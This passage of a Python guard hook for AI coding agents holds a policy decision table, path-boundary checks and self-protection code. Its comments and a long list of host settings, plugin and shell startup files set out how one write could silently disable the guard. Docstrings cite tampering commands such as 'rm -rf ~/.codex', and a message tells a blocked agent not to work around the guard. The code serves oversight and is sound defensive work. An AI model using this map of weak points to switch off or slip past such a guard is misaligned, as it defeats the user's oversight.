                same_kind = manifest_kind(f.old_path) == manifest_kind(f.path)
                old = "\n".join(f.old) if same_kind else ""
                dep_hit = dependency_intent_in_change(f.path, old, "\n".join(f.new))
    return PatchSummary(paths, "\n".join(added_all), hash_hit, dep_hit)


###############################################################################
# Decision
#
# Owns DECISION_TABLE, the ordered checks (the first that matches decides),
# `files=` matching, self-protection, the culprit of a deny, and the
# STOP/WATCH message.  `decide` is pure apart from resolving symlinks: state
# in, Decision out.
###############################################################################


class Decision(Record):
    """The outcome of the ordered checks for one action.before."""

    __slots__ = FIELDS = ('outcome', 'code', 'family', 'detail', 'next')
    DEFAULTS = {'detail': "", 'next': ""}

    outcome: str            # allow | report_and_defer | deny_and_explain | require_user_approval
    code: str               # reason code, e.g. MODE_FORBIDS_MUTATION
    family: Optional[str]   # I, H, S, T or None on allow
    detail: str
    next: str


FAMILY_WORDS: Dict[str, str] = {"I": "INTENT", "H": "HASH", "S": "SCOPE", "T": "THRASH"}

# Policy outcome -> the kind of core result the engine returns: nothing, a
# context note for the agent, or a deny (approval is a deny too: no host
# "ask" dialog is used).
_DECISION_RESULT_KINDS: Dict[str, str] = {
    "allow": "none",
    "report_and_defer": "context",
    "deny_and_explain": "deny",
    "require_user_approval": "deny",
}

# The modes that authorize no repository change (MODE_FORBIDS_MUTATION and
# MUTABILITY_UNPROVEN).
_MUTATION_FREE_MODES = frozenset(("answer", "review", "monitor"))

# A command repeated this many times with no write in between is thrash.
# The engine counts; `decide` only compares.
THRASH_REPEAT_LIMIT = 3


class _DecisionRow(Record):
    """One row of DECISION_TABLE: a reason code, what a match means, the check.

    family: I (intent), H (hashing), S (scope), T (thrash), None for an allow.
    outcome: a rule of _DECISION_OUTCOMES (how the outcome depends on whether
    the guard is armed).  check: the function that says whether the row
    matches (see _DecisionFacts), None for a code decided before `decide` runs.
    next: the default "Next:" line, what the agent should do instead.
    """

    __slots__ = FIELDS = ('code', 'family', 'outcome', 'check', 'next')
    DEFAULTS = {'next': ""}

    code: str
    family: Optional[str]
    outcome: str
    check: Optional[Callable[[Any], Any]]
    next: str


# What an agent stopped by self-protection is told to do.
_TAMPER_NEXT = (
    "Do not work around this. Only the user changes the guard: tell the user what you wanted "
    "to change and why. The user can turn the guard off for this session by sending "
    "`$stop-that-shit off` as a prompt (the write is then allowed; `$stop-that-shit change` "
    "arms it again), or make the change themselves outside the agent: edit the file by "
    "hand, or run `python3 sts.py uninstall <host>` to unwire the guard from a host.")

_BUDGET_NEXT_UNKNOWN = (
    "Collect a supported completion result for the earlier delegation first; its outcome "
    "is unknown, so its units stay reserved.")


def family_word(family: Optional[str]) -> str:
    """INTENT, HASH, SCOPE or THRASH for a family letter (`-` when there is none)."""
    return FAMILY_WORDS.get(family or "", "-")


def outcome_result_kind(outcome: str) -> str:
    """"none", "context" or "deny": what the core returns for a policy outcome."""
    return _DECISION_RESULT_KINDS.get(outcome, "none")


# Outcome rule -> (outcome while only watching, outcome when armed).  A guard
# that only watches reports what it would stop; an armed one stops it.
# "policy_when_armed" is resolved first, by the governing hash= or deps=
# policy: `ask` asks the user, anything else denies.
_DECISION_OUTCOMES: Dict[str, Tuple[str, str]] = {
    "allow": ("allow", "allow"),
    "always_deny": ("deny_and_explain", "deny_and_explain"),
    "always_defer": ("report_and_defer", "report_and_defer"),
    "deny_when_armed": ("report_and_defer", "deny_and_explain"),
    "approval_when_armed": ("report_and_defer", "require_user_approval"),
}


def _decision_outcome(rule: str, armed: bool, policy: Optional[str] = None) -> str:
    if rule == "policy_when_armed":
        rule = "approval_when_armed" if policy == "ask" else "deny_when_armed"
    return _DECISION_OUTCOMES[rule][1 if armed else 0]


def _decision_for(code: str, armed: bool, detail: str = "",
                  next_text: Optional[str] = None, policy: Optional[str] = None) -> Decision:
    row = _DECISION_ROWS[code]
    return Decision(_decision_outcome(row.outcome, armed, policy), code, row.family, detail,
                    row.next if next_text is None else next_text)


_STATE_BUSY_DETAIL = ("Another hook holds the session state lock, so the agent limit cannot be "
                      "checked for this delegation.")


def state_busy_decision(contract: Optional[dict] = None) -> Decision:
    """STATE_BUSY: the lock wait ran out for a delegation change.  Letting it
    through could exceed a finite budget, so it is denied (when armed) and
    audited instead; the agent is told to retry.

    The engine calls this only for a delegation-changing action.before under a
    finite budget; the call is neither evaluated nor reserved.  Without the
    contract the guard is taken as armed, since a finite budget was seen.
    """
    if contract is None:
        return _decision_for("STATE_BUSY", True, _STATE_BUSY_DETAIL)
    if contract.get("level") == "off":
        return Decision("allow", "CONTROL_INACTIVE", None)
    return _decision_for("STATE_BUSY", control_state(contract) == "ARMED", _STATE_BUSY_DETAIL)


# ---- files= matching --------------------------------------------------------


def _files_win_abs(text: str) -> bool:
    return ((len(text) >= 3 and text[1] == ":" and text[0].isascii() and text[0].isalpha()
             and text[2] in "\\/") or text.startswith("\\\\"))


def _files_normalize(path: str) -> str:
    # Node's path.posix.normalize, as the hosts that send these paths use:
    # unlike posixpath.normpath it keeps a trailing "/" and collapses a
    # leading "//".
    if path == "":
        return "."
    absolute = path.startswith("/")
    parts: List[str] = []
    for seg in path.split("/"):
        if seg in ("", "."):
            continue
        if seg == "..":
            if parts and parts[-1] != "..":
                parts.pop()
            elif not absolute:
                parts.append("..")
            continue
        parts.append(seg)
    out = "/".join(parts)
    if absolute:
        out = "/" + out
    elif not out:
        out = "."
    if path.endswith("/") and out != "/":
        out += "/"
    return out


def _boundary_form(raw: str, cwd: Optional[str]) -> str:
    """One path or pattern in the form that is compared: trimmed, `\\` as `/`,
    relative to cwd when both are absolute the same way (Windows or POSIX),
    normalized, one leading `./` dropped."""
    text = raw.strip()
    windows = _files_win_abs(text)
    path = text.replace("\\", "/")
    base = cwd.strip() if cwd is not None else None
    if base and windows and _files_win_abs(base):
        import ntpath
        try:
            path = ntpath.relpath(path, base).replace("\\", "/")
        except ValueError:
            pass  # other drive: Node keeps the absolute target
    elif base and not windows and path.startswith("/") and base.startswith("/") \
            and not _files_win_abs(base):
        import posixpath
        path = posixpath.relpath(path, base)
    path = _files_normalize(path)
    if path.startswith("./"):
        path = path[2:]
    return path


def _files_native(text: str) -> bool:
    # A Windows path means nothing to realpath on a POSIX host.
    return os.name == "nt" or not _files_win_abs(text)


def _files_realpath(path: str) -> str:
    # Non-strict realpath resolves symlinks and ".." through the existing
    # part of the path and keeps the missing tail lexically.
    try:
        return os.path.realpath(path)
    except (OSError, ValueError):
        return os.path.normpath(path)


def _files_keep_slash(original: str, resolved: str) -> str:
    if original.rstrip().endswith(("/", "\\")) and not resolved.endswith(("/", "\\")):
        return resolved + "/"
    return resolved


def _resolve_for_boundary(paths: List[str], patterns: List[str], cwd: Optional[str]
                          ) -> Tuple[List[str], List[str], List[str], Optional[str]]:
    """Physical paths (two readings each), patterns and cwd for matching.

    A symlink inside the boundary must not lead outside it, so the existing
    part of every affected path and of cwd is resolved.  Absolute patterns are
    resolved too, otherwise a symlinked cwd (/tmp on macOS) would put every
    absolute pattern outside.
    """
    base = cwd.strip() if cwd is not None else None
    real_cwd = cwd
    if base and _files_native(base) and os.path.isabs(base):
        real_cwd = _files_realpath(base)
        anchor, relative_to = base, None
    elif base is None:
        try:
            anchor = os.getcwd()
        except OSError:
            return list(paths), list(paths), list(patterns), cwd
        relative_to = _files_realpath(anchor)
    else:
        return list(paths), list(paths), list(patterns), cwd

    def resolve_path(raw: str, lexical: bool) -> str:
        text = raw.strip()
        if not text or not _files_native(text):
            return raw
        full = text if os.path.isabs(text) else os.path.join(anchor, text)
        if lexical:
            full = os.path.normpath(full)
        resolved = _files_realpath(full)
        if relative_to is not None and not os.path.isabs(text):
            # No cwd was given: compare relative to the process directory, as
            # the unresolved path would have been.
            try:
                resolved = os.path.relpath(resolved, relative_to)
            except ValueError:
                pass
        return _files_keep_slash(text, resolved)

    def resolve_pattern(raw: str) -> str:
        text = raw.strip()
        if text and _files_native(text) and os.path.isabs(text):
            return _files_keep_slash(text, _files_realpath(text))
        return raw

    # Hosts disagree on "..": the kernel applies it after following a link
    # (Codex, Hermes), Node's path.resolve/join before (Pi, OMP, OpenCode).
    # `src/link/../b/f` can be inside one way and outside the other, so
    # each path is read both ways and must be inside both times.
    physical = [resolve_path(p, False) for p in paths]
    lexical = [resolve_path(p, True) for p in paths]
    return physical, lexical, [resolve_pattern(p) for p in patterns], real_cwd


def _files_covers(pattern: str, path: str) -> bool:
    if pattern == "**" or pattern == path:
        return True
    if pattern.endswith("/**"):
        stem = pattern[:-3]
        return path == stem or path.startswith(stem + "/")
    return False


def boundary_waives_paths(patterns: List[str], cwd: Optional[str] = None) -> bool:
    """True when a pattern normalizes to `**` (`./**` too), so no visible path is
    needed."""
    return any(_boundary_form(p, cwd) == "**" for p in patterns)


def paths_outside(paths: List[str], patterns: List[str], cwd: Optional[str] = None, *,
                  resolve: bool = True) -> List[str]:
    """The affected paths (as given) that lie outside `files=` patterns.

    A path is inside when a pattern is `**`, equals it, or is `dir/**` and the
    path is `dir` or lies under it; there are no other wildcards.  Case is
    ignored when cwd is a Windows path, or path and pattern both are.
    With resolve=True symlinks and `..` in the existing part of each path and
    of cwd are resolved first, so a link inside the boundary cannot lead
    outside it; resolve=False reads the paths lexically only.
    """
    if resolve:
        physical, lexical, real_patterns, real_cwd = _resolve_for_boundary(paths, patterns, cwd)
    else:
        physical, lexical, real_patterns, real_cwd = list(paths), list(paths), list(patterns), cwd
    cwd_windows = cwd is not None and _files_win_abs(cwd.strip())
    forms = [(_files_win_abs(p.strip()), _boundary_form(p, real_cwd)) for p in real_patterns]

    def covered(real: str, path_windows: bool) -> bool:
        target = _boundary_form(real, real_cwd)
        for pattern_windows, pattern in forms:
            if cwd_windows or (path_windows and pattern_windows):
                if _files_covers(pattern.lower(), target.lower()):
                    return True
            elif _files_covers(pattern, target):
                return True
        return False

    outside = []
    for raw, one, other in zip(paths, physical, lexical):
        path_windows = _files_win_abs(raw.strip())
        if not (covered(one, path_windows) and (other == one or covered(other, path_windows))):
            outside.append(raw)
    return outside


# ---- paths named by a tool call ---------------------------------------------


def _path_flavour(text: str, cwd: Optional[str]) -> str:
    """"nt" when `text` is a Windows path (a drive or UNC path, with either
    slash, or a relative path under a Windows working folder), else "posix"."""
    if _files_win_abs(text) or text.startswith("//") and cwd is not None \
            and _files_win_abs(cwd.strip()):
        return "nt"
    if text.startswith(("/", "~")):
        return "posix"
    return "nt" if cwd is not None and _files_win_abs(cwd.strip()) else "posix"


def resolve_event_path(raw: str, cwd: Optional[str], *, physical: bool = True) -> Optional[str]:
    """The absolute path that a path named by a tool call stands for, or
    None when it cannot be known.  Shared by self-protection and by every
    check that must know where a tool call writes.

    - `~` and `~user` expand as the shell does for the hook's own user.
    - Drive paths (`C:\\x`, `C:/x`) and UNC paths (`\\\\host\\share`) are
      absolute on every OS; a relative path under a Windows working folder
      joins it by Windows rules.  On a POSIX host such a path comes back in
      Windows form (backslashes), which never equals a POSIX path.
    - A relative path joins `cwd`, the event's working folder; with no
      working folder (or a relative one) the folder is unknown and the
      answer is None.  The hook's own working folder is never used.
    - physical: symbolic links and `..` are resolved through the existing
      part of the path, as the kernel would, when the path is native here.
    """
    text = raw.strip() if isinstance(raw, str) else ""
    if not text:
        return None
    base = cwd.strip() if isinstance(cwd, str) else ""
    if _path_flavour(text, base or None) == "nt":
        import ntpath
        if not (_files_win_abs(text) or text.startswith(("//", "\\\\"))):
            if not _files_win_abs(base):
                return None
            text = ntpath.join(base, text)
        path = ntpath.normpath(text)
        if os.name == "nt" and physical:
            return _files_realpath(path)
        return path
    path = os.path.expanduser(text) if text.startswith("~") else text
    if not os.path.isabs(path):
        base = os.path.expanduser(base) if base.startswith("~") else base
        if not base or not os.path.isabs(base) or _files_win_abs(base):
            return None
        path = os.path.join(base, path)
    return _files_realpath(path) if physical else os.path.normpath(path)


# ---- self-protection --------------------------------------------------------


def _tamper_readings(raw: str, cwd: Optional[str]) -> Optional[List[str]]:
    """The physical paths `raw` may name (see resolve_event_path), or None
    when its folder is unknown.  On a POSIX host a Windows-looking path is
    also read as the plain relative name a POSIX program would see."""
    first = resolve_event_path(raw, cwd)
    if first is None:
        return None
    readings = [first]
    text = raw.strip()
    if os.name != "nt" and _files_win_abs(text) and cwd and not _files_win_abs(cwd.strip()):
        literal = resolve_event_path("./" + text, cwd)
        if literal is not None:
            readings.append(literal)
    return readings


def _tamper_case_insensitive(path: str) -> bool:
    """Whether the file system holding `path` ignores case (probed with one stat)."""
    if os.name == "nt":
        return True
    probe = path
    while True:
        head, tail = os.path.split(probe)
        if tail and tail.swapcase() != tail and os.path.exists(probe):
            twin = os.path.join(head, tail.swapcase())
            try:
                return os.path.exists(twin) and os.path.samefile(probe, twin)
            except OSError:
                return False
        if not tail or head == probe:
            return False
        probe = head


def _tamper_within(path: str, root: str) -> bool:
    return path == root or path.startswith(root.rstrip(os.sep) + os.sep)


def _tamper_roots(protected_paths: Any) -> List[str]:
    # Targets are compared physically, so the roots must be too; the engine
    # may hand over a data dir reached through a symlink (/var on macOS).
    return [_files_realpath(os.path.expanduser(r)) for r in protected_paths
            if isinstance(r, str) and r]


def _tamper_reach(target: str, root: str, exempt: Any) -> bool:
    """Whether the physical path `target` reaches `root`: is it, lies in it,
    or (unless `exempt(target)`) holds it.  Letter case counts only where the
    file system holding the root tells case apart."""
    if _tamper_within(target, root):
        return True
    folded, root_folded = target.casefold(), root.casefold()
    inside = _tamper_within(folded, root_folded)
    holds = _tamper_within(root_folded, folded)
    if not (inside or holds):
        return False
    if holds and exempt(target):
        return False
    if holds and _tamper_within(root, target):
        return True
    return _tamper_case_insensitive(root)


def _tamper_matches(action: Action, protected_paths: Any) -> List[Tuple[str, str, str]]:
    """(raw path, resolved path, protected root) for every path of `action`
    (affected or shell write target) that reaches a protected root.

    A path reaches a root when it is the root, lies inside it, or is a folder
    holding it (`rm -rf ~/.codex`, `mv ~/.config/opencode x`).  The working
    folder and its ancestors are left out of the last rule: `git add .` or
    `cp x ~/` name them without touching the guard's files.  (Removing one
    of them is caught by the patterns: `rm -rf .` also writes `./**`.)
    """
    roots = _tamper_roots(protected_paths)
    if not roots:
        return []
    cwd = resolve_event_path(action.cwd, None) if action.cwd else None

    def exempt(target: str) -> bool:
        return cwd is not None and _tamper_within(cwd.casefold(), target.casefold())

    found = []
    for raw in list(action.affected_paths) + list(action.shell_write_targets):
        for target in _tamper_readings(raw, action.cwd) or ():
            root = next((r for r in roots if _tamper_reach(target, r, exempt)), None)
            if root is not None:
                found.append((raw, target, root))
                break
    return found


def _tamper_unplaced(action: Action) -> List[str]:
    """Paths of `action` relative to a working folder the event does not give."""
    return [raw for raw in list(action.affected_paths) + list(action.shell_write_targets)
            + list(action.shell_write_patterns)
            if raw.strip() and resolve_event_path(_glob_static_head(raw), action.cwd,
                                                  physical=False) is None]


# A glob pattern is checked against the file system as well, since a
# wildcard may match a link into a protected folder; past this many
# directory entries the pattern is taken to reach the roots.
_PATTERN_SCAN_LIMIT = 4096


def _glob_literal(component: str) -> Optional[str]:
    """The name a pattern component stands for when it has no wildcard
    (only `[c]` escapes, see _glob_escape); None when it has one."""
    out, i = [], 0
    while i < len(component):
        ch = component[i]
        if ch == "[" and i + 2 < len(component) and component[i + 2] == "]" \
                and component[i + 1] not in "!^]":
            out.append(component[i + 1])
            i += 3
            continue
        if ch in "*?[":
            return None
        out.append(ch)
        i += 1
    return "".join(out)


def _glob_static_head(pattern: str) -> str:
    """The leading components of a pattern that hold no wildcard, as a path."""
    head = []
    for part in pattern.split("/"):
        literal = _glob_literal(part)
        if literal is None:
            break
        head.append(literal)
    text = "/".join(head)
    return text or ("/" if pattern.startswith("/") else ".")


def _pattern_reach(pattern: str, cwd: Optional[str], roots: List[str]
                   ) -> Tuple[Optional[str], Optional[str]]:
    """(what the pattern reaches, the root) when some path matching `pattern`
    (see ShellAnalysis.write_patterns) is, lies in or holds a protected root;
    (None, None) when none does.  Checked on names (paths that may not
    exist yet) and on the file system (a wildcard that matches a link)."""
    import fnmatch
    parts = pattern.split("/")
    head: List[str] = []
    while parts and _glob_literal(parts[0]) is not None:
        head.append(_glob_literal(parts.pop(0)) or "")
    if not parts:
        # `[s]` is the only wildcard: the shell writes the name it matches, or
        # the word itself, brackets and all, when nothing matches.
        for text in ("/".join(head), pattern):
            path = resolve_event_path(text, cwd)
            root = next((r for r in roots if path is not None and (
                _tamper_within(path, r) or _tamper_within(r, path))), None)
            if root is not None:
                return path, root
        return None, None
    base_text = "/".join(head) or ("/" if pattern.startswith("/") else ".")
    base = resolve_event_path(base_text, cwd)
    if base is None or (os.name != "nt" and _files_win_abs(base)):
        return None, None
    rest = [p for p in parts if p not in ("", ".")]
    for root in roots:
        if _tamper_within(base, root):
            return base, root          # every match lies in the root
        insensitive = False
        if not _tamper_within(root, base):
            if not (_tamper_within(root.casefold(), base.casefold())
                    and _tamper_case_insensitive(root)):
                continue
            insensitive = True
        rel = [p for p in root[len(base):].split(os.sep) if p]
        if _glob_reaches(rest, rel, os.path.isdir(root),
                         insensitive or _tamper_case_insensitive(root)):
            return os.path.join(base, *rest), root
    # The names that exist now: a match may be a link leading elsewhere.
    budget = [_PATTERN_SCAN_LIMIT]

    def walk(folder: str, rest_parts: List[str]) -> Optional[Tuple[str, str]]:
        if rest_parts[:1] == ["**"] and len(rest_parts) > 1:
            return None     # below any depth: names are read, links are not followed
        if not rest_parts or rest_parts[0] == "**":
            real = _files_realpath(folder)
            root = next((r for r in roots if _tamper_within(real, r)
                         or _tamper_within(r, real)), None)
            return (folder, root) if root is not None else None
        part = rest_parts[0]
        literal = _glob_literal(part)
        if literal is not None:
            nxt = os.path.join(folder, literal)
            return walk(nxt, rest_parts[1:]) if os.path.lexists(nxt) else None
        try:
            names = os.listdir(folder)
        except OSError:
            return None
        budget[0] -= len(names)
        if budget[0] < 0:
            return (os.path.join(folder, part), roots[0])
        for name in names:
            if fnmatch.fnmatchcase(name, part):
                hit = walk(os.path.join(folder, name), rest_parts[1:])
                if hit is not None:
                    return hit
        return None

    found = walk(base, rest)
    return found if found is not None else (None, None)


def _glob_reaches(parts: List[str], rel: List[str], root_is_dir: bool,
                  insensitive: bool) -> bool:
    """Whether a path matching the components `parts` can be the path
    `rel` (both below the same folder), hold it, or (for a folder) lie in
    it.  `**` stands for any number of components; `..` for anything."""
    import fnmatch
    seen: Dict[Tuple[int, int], bool] = {}

    def go(i: int, j: int) -> bool:
        if (i, j) in seen:
            return seen[(i, j)]
        if i == len(parts):
            hit = True                 # the path ends at rel or above it: it is or holds it
        elif j == len(rel):
            hit = root_is_dir          # the path goes on below rel
        elif parts[i] == "..":
            hit = True
        elif parts[i] == "**":
            hit = go(i + 1, j) or go(i, j + 1)
        else:
            name, want = (rel[j].casefold(), parts[i].casefold()) if insensitive \
                else (rel[j], parts[i])
            hit = fnmatch.fnmatchcase(name, want) and go(i + 1, j + 1)
        seen[(i, j)] = hit
        return hit

    return go(0, 0)


def _tamper_pattern_hits(action: Action, protected_paths: Any) -> List[Tuple[str, str, str]]:
    """(pattern, what it reaches, root) for the shell write patterns of `action`."""
    roots = _tamper_roots(protected_paths)
    found = []
    for pattern in action.shell_write_patterns if roots else ():
        reached, root = _pattern_reach(pattern, action.cwd, roots)
        if root is not None:
            found.append((pattern, reached or pattern, root))
    return found


def protected_hits(action: Action, protected_paths: Any) -> List[str]:
    """Paths of `action` (affected or shell write targets) that reach a protected
    root, or else a host file of HOST_SETTINGS: the ones its denial is about."""
    hits = [raw for raw, _, _ in _tamper_matches(action, protected_paths)]
    return hits or [raw for raw, _, _ in host_settings_matches(action, protected_paths)]


def _tamper_what(root: str) -> str:
    """Which part of the guard a protected root is, in words for the user."""
    if root == _files_realpath(os.path.abspath(__file__)):
        return "the guard's own code (the running sts.py)"
    if os.path.isdir(root):
        return "the guard's data folder (contracts, session state and audit log)"
    return "a hook configuration or shim file that `sts.py install` wrote for a host"


def _tamper_detail(matches: List[Tuple[str, str, str]]) -> str:
    parts = []
    for raw, target, root in matches:
        named = target if raw == target else "%s (named `%s`)" % (target, raw)
        if target == root:
            parts.append("%s is %s" % (named, _tamper_what(root)))
        elif _tamper_within(target, root):
            parts.append("%s lies in %s" % (named, _tamper_what(root)))
        else:
            parts.append("%s holds %s, %s" % (named, root, _tamper_what(root)))
    return ("This call would change the guard's own files: %s. Self-protection stops such "
            "writes in every mode while the guard is armed, change and open included."
            % "; ".join(parts))


# ---- host settings that decide whether the hook runs ------------------------
#
# A host runs the guard only while its own settings say so, and most of those
# files were never written by `sts.py install`: a project
# .claude/settings.local.json with "disableAllHooks", Gemini CLI's
# `hooksConfig.enabled: false`, Codex's `[features] hooks = false`, a hooks
# block that replaces ours, a folder of plugins or extensions the host loads
# into its own process (where any code can unhook ours), a trust list that
# makes the host skip project hooks, a profile switch or an environment file
# that points the host at a folder where the guard is not wired.  One write to
# any of them ends the guard silently, for this session or the next, so
# self-protection covers them by name, whoever wrote them.
#
# The set is matched on names: building it reads no file, and a named path is
# only looked at on disk the way every self-protection check looks at it (its
# links followed), or when a name matches in another letter case (is that the
# same file here?).  Glob patterns are the exception, see below.  Where an
# entry applies:
#   "**"    under any folder: project layers, and the user folders whose
#           names are fixed (~/.claude, ~/.codex, ~/.pi/agent, ...), which
#           also covers a home reached through a link;
#   "~"     the home folder; "~/$VAR" a folder named by a variable under it;
#   "$VAR"  the folder or file an environment variable names, as the host
#           reads it (left out when the variable is unset);
#   "/..."  system folders, of every platform: a path of another OS never
#           matches, so listing them all costs nothing.
# An entry ending in "/" is a folder and covers everything in it; "" is the
# base itself; "*" stands for any one name.  A path is hit when it is an
# entry, lies in a folder entry, or is a folder holding one (`rm -rf .codex`),
# unless it holds the working folder (`git add .`).

_CLAUDE_SYSTEM = ("/etc/claude-code", "/Library/Application Support/ClaudeCode",
                  "C:/Program Files/ClaudeCode", "C:/ProgramData/ClaudeCode")
# Folders of code that Oh My Pi imports into its own process, per config folder.
_OMP_CODE = ("extensions/", "hooks/pre/", "hooks/post/", "tools/")
_OMP_AGENT = ("settings.json", "config.yml", "config.yaml", ".env") + _OMP_CODE

# host -> ((what it is, where, entries), ...).  The one list of host files
# self-protection guards beside the guard's own; README.md shows it as a table.
HOST_SETTINGS: Dict[str, Tuple[Tuple[str, Tuple[str, ...], Tuple[str, ...]], ...]] = {
    "claude": (
        ("a Claude Code settings file", ("**",),
         (".claude/settings.json", ".claude/settings.local.json")),
        ("Claude Code's plugin folder", ("**",), (".claude/plugins/",)),
        ("Claude Code's list of trusted projects", ("**",), (".claude.json",)),
        ("a Claude Code settings file, plugin folder or trust list", ("$CLAUDE_CONFIG_DIR",),
         ("settings.json", "settings.local.json", "plugins/", ".claude.json")),
        ("Claude Code's managed settings", _CLAUDE_SYSTEM,
         ("managed-settings.json", "managed-settings.d/")),
    ),
    "codex": (
        ("a Codex config or hooks file", ("**",),
         (".codex/config.toml", ".codex/hooks.json", ".codex/*.config.toml",
          ".codex/requirements.toml", ".codex/managed_config.toml")),
        ("a Codex config or hooks file", ("$CODEX_HOME",),
         ("config.toml", "hooks.json", "*.config.toml", "requirements.toml",
          "managed_config.toml")),
        ("Codex's system or managed config", ("/etc/codex",),
         ("config.toml", "hooks.json", "requirements.toml", "managed_config.toml")),
    ),
    "gemini": (
        ("a Gemini CLI settings file", ("**",), (".gemini/settings.json",)),
        ("Gemini CLI's list of trusted folders", ("**",), (".gemini/trustedFolders.json",)),
        ("a Gemini CLI settings file or trust list",
         ("$GEMINI_CLI_HOME/.gemini", "$GEMINI_CLI_HOME/.cache/.gemini"),
         ("settings.json", "trustedFolders.json")),
        ("Gemini CLI's list of trusted folders", ("$GEMINI_CLI_TRUSTED_FOLDERS_PATH",), ("",)),
        ("Gemini CLI's system settings",
         ("/etc/gemini-cli", "/Library/Application Support/GeminiCli",
          "C:/ProgramData/gemini-cli"), ("settings.json", "system-defaults.json")),
        ("Gemini CLI's system settings",
         ("$GEMINI_CLI_SYSTEM_SETTINGS_PATH", "$GEMINI_CLI_SYSTEM_DEFAULTS_PATH"), ("",)),
    ),
    "qwen": (
        ("a Qwen Code settings file", ("**",), (".qwen/settings.json",)),
        ("Qwen Code's list of trusted folders", ("**",), (".qwen/trustedFolders.json",)),
        ("an environment file Qwen Code reads at start (it can move QWEN_HOME)",
         ("**",), (".qwen/.env",)),
        ("a Qwen Code settings file, trust list or environment file", ("$QWEN_HOME",),
         ("settings.json", "trustedFolders.json", ".env")),
        ("Qwen Code's list of trusted folders", ("$QWEN_CODE_TRUSTED_FOLDERS_PATH",), ("",)),
        ("Qwen Code's system settings",
         ("/etc/qwen-code", "/Library/Application Support/QwenCode", "C:/ProgramData/qwen-code"),
         ("settings.json", "system-defaults.json")),
        ("Qwen Code's system settings",
         ("$QWEN_CODE_SYSTEM_SETTINGS_PATH", "$QWEN_CODE_SYSTEM_DEFAULTS_PATH"), ("",)),
        ("the home environment file Qwen Code and Oh My Pi read at start", ("~",), (".env",)),
    ),
    "copilot": (
        ("a Copilot CLI settings or hooks file", ("**",),
         (".copilot/settings.json", ".copilot/config.json", ".copilot/hooks/",
          ".github/hooks/", ".github/copilot/settings.json",
          ".github/copilot/settings.local.json")),
        ("a Copilot CLI settings or hooks file", ("$COPILOT_HOME",),
         ("settings.json", "config.json", "hooks/")),
    ),
    "opencode": (
        ("an OpenCode config file", ("**",),
         ("opencode.json", "opencode.jsonc", ".config/opencode/config.json")),
        ("a folder of code OpenCode loads into its own process", ("**",),
         (".opencode/plugin/", ".opencode/plugins/", ".opencode/tool/", ".opencode/tools/",
          ".opencode/package.json", ".config/opencode/plugin/", ".config/opencode/plugins/",
          ".config/opencode/tool/", ".config/opencode/tools/",
          ".config/opencode/package.json")),
        ("an OpenCode config file or plugin folder",
         ("$XDG_CONFIG_HOME/opencode", "$OPENCODE_CONFIG_DIR"),
         ("opencode.json", "opencode.jsonc", "config.json", "plugin/", "plugins/", "tool/",
          "tools/", "package.json")),
        ("an OpenCode config file", ("$OPENCODE_CONFIG",), ("",)),
        ("OpenCode's managed config",
         ("/etc/opencode", "/Library/Application Support/opencode", "C:/ProgramData/opencode",
          "$ProgramData/opencode"), ("opencode.json", "opencode.jsonc")),
    ),
    "pi": (
        ("Pi's settings (they list and exclude extensions)", ("**",),
         (".pi/settings.json", ".pi/agent/settings.json")),
        ("a folder of code Pi loads into its own process", ("**",),
         (".pi/extensions/", ".pi/npm/", ".pi/git/", ".pi/agent/extensions/",
          ".pi/agent/git/")),
        ("Pi's settings or extension folder", ("$PI_CODING_AGENT_DIR",),
         ("settings.json", "extensions/", "git/")),
    ),
    "omp": (
        ("Oh My Pi's settings (they list extensions)", ("**",),
         (".omp/settings.json", ".omp/config.yml", ".omp/config.yaml")
         + tuple(".omp/agent/" + e for e in _OMP_AGENT[:3])
         + tuple(".omp/profiles/*/agent/" + e for e in _OMP_AGENT[:3])),
        ("a folder of code Oh My Pi loads into its own process", ("**",),
         tuple(".omp/" + e for e in _OMP_CODE) + tuple(".omp/agent/" + e for e in _OMP_CODE)
         + tuple(".omp/profiles/*/agent/" + e for e in _OMP_CODE)
         + (".omp/plugins/", ".omp/profiles/*/plugins/")
         + tuple(".claude/" + e for e in _OMP_CODE)
         + (".codex/extensions/", ".codex/hooks/", ".codex/tools/", ".gemini/extensions/")),
        ("an environment file Oh My Pi reads at start (it can move the agent folder)", ("**",),
         (".omp/.env", ".omp/agent/.env", ".omp/profiles/*/.env", ".omp/profiles/*/agent/.env")),
        ("Oh My Pi's settings, environment file or code folder", ("$PI_CODING_AGENT_DIR",),
         _OMP_AGENT),
        ("Oh My Pi's settings, environment file or code folder", ("~/$PI_CONFIG_DIR",),
         (".env", "plugins/", "profiles/") + tuple("agent/" + e for e in _OMP_AGENT)),
        ("Oh My Pi's plugin folder", ("$XDG_DATA_HOME/omp",), ("plugins/", "profiles/*/plugins/")),
        ("a folder of code Oh My Pi loads into its own process",
         ("$CLAUDE_CONFIG_DIR", "$CODEX_HOME"), _OMP_CODE),
        ("the home environment file Qwen Code and Oh My Pi read at start", ("~",), (".env",)),
    ),
    "hermes": (
        ("Hermes' config, environment file or hook approvals", ("**",),
         (".hermes/config.yaml", ".hermes/.env", ".hermes/.op.env",
          ".hermes/shell-hooks-allowlist.json", ".hermes/profiles/*/config.yaml",
          ".hermes/profiles/*/.env", ".hermes/profiles/*/shell-hooks-allowlist.json")),
        ("Hermes' active profile (it picks the folder Hermes starts from)", ("**",),
         (".hermes/active_profile",)),
        ("a Hermes plugin folder, loaded into Hermes' own process", ("**",),
         (".hermes/plugins/", ".hermes/profiles/*/plugins/")),
        ("Hermes' config, plugin folder or environment file", ("$HERMES_HOME", "$LOCALAPPDATA/hermes"),
         ("config.yaml", ".env", ".op.env", "shell-hooks-allowlist.json", "active_profile",
          "plugins/", "profiles/*/config.yaml", "profiles/*/.env", "profiles/*/plugins/")),
        ("Hermes' managed config", ("/etc/hermes", "$HERMES_MANAGED_DIR"), ("config.yaml", ".env")),
    ),
    # Not a host: the startup files of the shells every host's shell tool runs
    # (Codex and Claude Code start a login shell).  A line written there runs
    # before every later command, so an alias or a function could turn a proven
    # read such as `ls` into a write, or move HOME and TMPDIR, which the guard
    # trusts when it resolves `~` and `$TMPDIR`.
    "shell": (
        ("a startup file the shell reads before every command", ("~",),
         (".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshenv", ".zprofile",
          ".zshrc", ".zlogin")),
        ("a startup file the shell reads before every command", ("$ZDOTDIR",),
         (".zshenv", ".zprofile", ".zshrc", ".zlogin")),
        ("a startup file the shell reads before every command", ("$BASH_ENV", "$ENV"), ("",)),
        ("Claude Code's per-session shell environment (CLAUDE_ENV_FILE)", ("~/.claude",),
         ("session-env/",)),
